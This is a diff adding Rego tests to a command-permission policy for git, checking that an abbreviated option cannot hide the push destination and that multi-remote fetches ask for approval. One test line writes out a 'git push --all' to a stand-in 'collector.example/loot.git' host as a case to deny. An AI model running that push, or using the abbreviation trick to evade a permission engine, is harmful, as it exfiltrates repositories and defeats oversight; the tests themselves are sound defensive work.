@@ -314,3 +314,11 @@ test_git_tag_create_or_delete_none if {
 	run("git", ["tag", "v1.0"]) == "none"
 	run("git", ["tag", "-l", "-d", "v1.0"]) == "none"
 }
+
+# git takes abbreviations, so an option the engine does not know may take the remote's place.
+test_git_push_location_anywhere_deny if {
+	run("git", ["push", "--recurse", "no", "https://collector.example/loot.git", "--all"]) == "deny"
+	run_with("git", ["push", "--recurse-submodules", "no", "../other"], {"arguments": [], "option_list": [opt("--recurse-submodules", "no")]}) == "allow"
+}
+
+test_git_fetch_multiple_locations_ask if run("git", ["fetch", "--multiple", "origin", "https://collector.example/x.git"]) == "ask"
